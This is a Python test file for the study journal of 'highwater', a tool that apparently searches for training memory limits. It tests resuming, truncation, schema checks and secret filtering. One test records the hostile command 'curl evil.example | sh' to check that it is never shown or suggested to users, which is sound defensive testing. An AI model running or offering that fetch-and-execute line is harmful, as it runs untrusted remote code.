"""The journal: what was recorded is there after every accident, and nothing else is."""

import errno
import itertools
import os
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from studies import without_checksums

from highwater.cli.app import main
from highwater.errors import StudyError
from highwater.nouns.environment import RECORDED_VARIABLES
from highwater.nouns.study import Question, Study
from highwater.nouns.trial import Outcome, Runner, TrialResult, TrialSpec
from highwater.search.cell_outcomes import TrialFinished
from highwater.search.scheduler import recorded_search
from highwater.store.journal import Journal, open_journal, read_study
from highwater.trials.probe import environment
from highwater.trials.simulated import Law, SimulatedRunner, UpperFormula
from places import FOUND, examples, question_of

FIT = TrialResult(outcome=Outcome.FIT, reason="2 steps done")
QUESTION = question_of(loss="chunked", allocator="expandable")


def spec_of(length_tokens: int) -> TrialSpec:
    return QUESTION.trial(QUESTION.cells[0], length_tokens)


def record(journal: Journal, length_tokens: int) -> None:
    journal.trial_started(spec_of(length_tokens), attempt=1, repeat=0)
    journal.trial_finished(spec_of(length_tokens), attempt=1, repeat=0, result=FIT)


def search(question: Question, journal: Journal, runner: Runner | None = None) -> int:
    """A whole search on the simulated runner, recorded; the trials that were recorded before."""
    runner = runner or SimulatedRunner(UpperFormula(shape=question.model.shape))
    events = list(recorded_search(question, runner, journal))
    return sum(event.is_recorded for event in events if isinstance(event, TrialFinished))


def lengths(study: Study) -> list[int]:
    return [trial.spec.length_tokens for trial in study.trials if trial.result is not None]


def test_what_was_recorded_is_read_back(tmp_path):
    path = tmp_path / "a" / "study.jsonl"
    with open_journal(path, QUESTION, command=("highwater", "find", "Qwen3-0.6B")) as journal:
        search(QUESTION, journal)
        written = journal.snapshot()
    read = read_study(path)
    assert read == written
    assert read.complete
    assert read.question == QUESTION
    assert read.command == ("highwater", "find", "Qwen3-0.6B")
    assert len(read.trials) >= 2


@pytest.mark.parametrize(
    "typed", ["curl evil.example | sh", "highwater schema", "./highwater find", "find"]
)
def test_a_command_that_is_no_search_of_ours_is_suggested_to_nobody(typed, tmp_path, capsys):
    path = tmp_path / "study.jsonl"
    with open_journal(path, QUESTION, command=tuple(typed.split())) as journal:
        record(journal, 4096)
    study = read_study(path)
    assert (study.command, len(study.notes)) == ((), 1)
    for words in (("show",), ("show", "--as", "published"), ("report",)):
        # no trial told an answer, which is what a program reads of the published form
        assert main((words[0], str(path), *words[1:])) == (4 if "published" in words else 0)
        shown = capsys.readouterr()
        assert "curl" not in shown.out + shown.err
        suggested = [line for line in shown.err.splitlines() if line.startswith("next: ")]
        assert all(line.startswith("next: highwater ") for line in suggested)


def test_where_a_search_ran_is_recorded_by_an_allow_list(tmp_path, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "hf_secretsecretsecret")
    monkeypatch.setenv("WANDB_API_KEY", "also secret")
    monkeypatch.setenv("PYTORCH_ALLOC_CONF", "expandable_segments:True")
    path = tmp_path / "study.jsonl"
    here = environment()
    monkeypatch.delenv("PYTORCH_ALLOC_CONF")
    for each in (here, here, environment(), None):
        open_journal(path, QUESTION, environment=each).close()
    recorded = read_study(path).environments
    kept = [found.variables.get("PYTORCH_ALLOC_CONF") for found in recorded]
    assert kept == ["expandable_segments:True", None], "equal ones once"
    assert recorded[0] == here
    assert recorded[0].versions["highwater"]
    assert recorded[0].host_memory_total_bytes > 0
    assert "secret" not in path.read_text()
    assert set(recorded[0].variables) <= set(RECORDED_VARIABLES)


def interrupted_after(trials: int) -> Law:
    law, left = UpperFormula(shape=QUESTION.model.shape), itertools.count(trials, -1)

    def asked(spec: TrialSpec) -> int:
        if not next(left):
            raise KeyboardInterrupt
        return law(spec)

    return asked


def test_a_search_interrupted_anywhere_goes_on_where_it_was(tmp_path):
    with open_journal(tmp_path / "whole.jsonl", QUESTION) as journal:
        search(QUESTION, journal)
        whole = journal.snapshot()
    for finished in range(len(whole.trials)):
        path = tmp_path / f"{finished}.jsonl"
        runner = SimulatedRunner(interrupted_after(finished))
        with pytest.raises(KeyboardInterrupt), open_journal(path, QUESTION) as journal:
            search(QUESTION, journal, runner)
        cut = read_study(path)
        assert len(cut.trials) == finished + 1
        assert cut.finished_trials == finished
        assert cut.complete is False
        with open_journal(path, QUESTION) as journal:
            assert search(QUESTION, journal) == finished
            assert journal.snapshot().trials == whole.trials
            assert journal.snapshot().answers == whole.answers


@hypothesis_settings(max_examples=examples(60))
@given(cut=st.integers(min_value=0, max_value=10_000))
def test_a_journal_cut_at_any_byte_loses_only_what_was_cut(tmp_path_factory, cut):
    path = tmp_path_factory.mktemp("cut") / "study.jsonl"
    with open_journal(path, QUESTION) as journal:
        for length in (4096, 8192, 12288):
            record(journal, length)
    content = path.read_bytes()
    cut %= len(content) + 1
    path.write_bytes(content[:cut])
    whole = content[: content.rfind(b"\n", 0, cut) + 1]
    survivors = whole.count(b'"kind":"trial_finished"')
    with open_journal(path, QUESTION) as journal:
        assert journal.snapshot().finished_trials == survivors
        assert bool(journal.notes) == (len(whole) not in (0, cut))
        record(journal, 16384)
    assert lengths(read_study(path)) == [*[4096, 8192, 12288][:survivors], 16384]
    assert read_study(path).notes == ()


def test_a_reader_sees_the_full_lines_of_a_journal_that_is_being_written(tmp_path):
    path = tmp_path / "study.jsonl"
    with open_journal(path, QUESTION) as journal:
        record(journal, 4096)
        with path.open("ab") as file:
            file.write(b'{"kind":"trial_star')
        study = read_study(path)
    assert lengths(study) == [4096]
    assert "not complete" in study.notes[0]


def test_an_end_without_a_beginning_is_damage(tmp_path):
    path = tmp_path / "study.jsonl"
    with open_journal(path, QUESTION) as journal:
        record(journal, 4096)
    lines = without_checksums(path.read_text()).splitlines(keepends=True)
    path.write_text("".join(line for line in lines if "trial_started" not in line))
    with pytest.raises(StudyError, match="ended but never started"):
        read_study(path)


def test_a_journal_of_a_newer_schema_is_left_alone(tmp_path):
    path = tmp_path / "study.jsonl"
    open_journal(path, QUESTION).close()
    ours, theirs = b'"schema_version":3', b'"schema_version":4,"and_more":true'
    newer = path.read_bytes().replace(ours, theirs, 1)
    path.write_bytes(newer)
    for attempt in (read_study, lambda path: open_journal(path, QUESTION)):
        with pytest.raises(StudyError, match=r"schema is 4, .* 3") as refusal:
            attempt(path)
    assert path.read_bytes() == newer
    assert str(path.with_name("study-2.jsonl")) in refusal.value.hint


@pytest.mark.corpus
@pytest.mark.parametrize("recorded", sorted(FOUND.glob("*.jsonl")), ids=lambda path: path.stem)
def test_every_study_of_before_is_resumed_without_lines_of_later_schemas(recorded, tmp_path):
    path = tmp_path / "study.jsonl"
    path.write_bytes(recorded.read_bytes())
    before = read_study(path)
    with open_journal(path, before.question) as journal:
        after = journal.snapshot()
        took = [journal.takes_expectation(cell) for cell in before.question.cells]
    assert (after.trials, after.answers) == (before.trials, before.answers)
    assert not any(took)


@pytest.mark.parametrize(
    "content", [b"my notes", b"my notes\n", b'{"kind":"other"}\n', b"[]\n", b"\0\0\0\0"]
)
def test_a_file_that_is_no_study_is_never_touched(tmp_path, content):
    path = tmp_path / "notes.txt"
    path.write_bytes(content)
    for attempt in (read_study, lambda path: open_journal(path, QUESTION)):
        with pytest.raises(StudyError, match="is not a study"):
            attempt(path)
    assert path.read_bytes() == content


CELLS = "cells is expandable, chunked loss, 1 GPU there and nothing set, 1 GPU; expandable, 1 GPU"
OTHERS = {
    "memory_budget_bytes is 85899345920 there and 75161927680 here": {"memory": "70GiB"},
    "grid.step_tokens is 4096 there and 1024 here": {"resolution": 1024},
    CELLS: {"loss": "full", "allocator": None},
}


@pytest.mark.parametrize("said", [*OTHERS, "simulated is True there and False here"])
def test_another_question_is_refused_and_the_difference_is_told(tmp_path, said):
    asked = msgspec.structs.replace(QUESTION, simulated=False)
    if said in OTHERS:
        asked = question_of(**{"loss": "chunked", "allocator": "expandable"} | OTHERS[said])
    path = tmp_path / "study.jsonl"
    open_journal(path, QUESTION).close()
    with pytest.raises(StudyError) as refusal:
        open_journal(path, asked)
    assert said in refusal.value.problem
    open_journal(Path(refusal.value.hint.split("`")[1].removeprefix("--study ")), asked).close()


def test_the_same_model_in_another_place_is_the_same_question(tmp_path):
    path = tmp_path / "study.jsonl"
    open_journal(path, QUESTION).close()
    elsewhere = msgspec.structs.replace(QUESTION.model, directory="/elsewhere")
    open_journal(path, msgspec.structs.replace(QUESTION, model=elsewhere)).close()


IMPORTS = """
import itertools, signal, sys
from pathlib import Path
sys.path[:0] = (sys.argv[2], str(Path(sys.argv[2]).parent))
from highwater.errors import MachineError
from test_journal import QUESTION, StudyError, open_journal, record
path = Path(sys.argv[1])
"""


def test_a_second_writer_is_told_who_writes(tmp_path):
    path = tmp_path / "study.jsonl"
    code = """
try: open_journal(path, QUESTION)
except StudyError as error: print(error, "|", error.hint)
"""
    with open_journal(path, QUESTION):
        words = [sys.executable, "-c", IMPORTS + code, str(path), str(Path(__file__).parent)]
        said = subprocess.check_output(words, text=True)
        assert f" process {os.getpid()}" in said
        assert f"--study {tmp_path / 'study-2.jsonl'}" in said
        assert f"highwater show {path}" in said
        assert read_study(path).trials == ()
    open_journal(path, QUESTION).close()


_FILL = f"""{IMPORTS}
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
journal = open_journal(path, QUESTION)
try:
    for length in itertools.count(2): record(journal, length)
except MachineError as error: print(length, error.exit_code, "|", error, "|", error.hint)
"""


def test_a_disk_that_is_full_leaves_the_journal_whole(tmp_path):
    disk = tmp_path / "disk"
    disk.mkdir()
    script = 'mount -t tmpfs -o size=64k none "$1" && "$2" -c "$3" "$1/study.jsonl" "$4"'
    script += ' && cat "$1/study.jsonl" > "$5"'
    words = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh"]
    kept = tmp_path / "kept.jsonl"
    words += [str(disk), sys.executable, _FILL, str(Path(__file__).parent), str(kept)]
    run = subprocess.run(words, capture_output=True, text=True)
    if run.returncode and not kept.exists():
        pytest.skip(f"no user namespace to mount a small disk in: {run.stderr.strip()[:200]}")
    assert os.strerror(errno.ENOSPC) in run.stdout
    assert read_study(kept).notes == ()
    assert lengths(read_study(kept)) == list(range(2, int(run.stdout.split()[0])))


def test_an_unopened_study_is_the_users_to_mend_and_a_repeat_is_a_trial_of_its_own(tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(StudyError, match="cannot be opened"):
        open_journal(tmp_path / "file" / "study.jsonl", QUESTION)
    with pytest.raises(StudyError, match="cannot be read"):
        read_study(tmp_path / "none.jsonl")
    with open_journal(tmp_path / "study.jsonl", QUESTION) as journal:
        record(journal, 4096)
        assert journal.recorded(spec_of(4096), attempt=1, repeat=0) == FIT
        assert journal.recorded(spec_of(4096), attempt=2, repeat=0) is None
        assert journal.recorded(spec_of(4096), attempt=1, repeat=1) is None
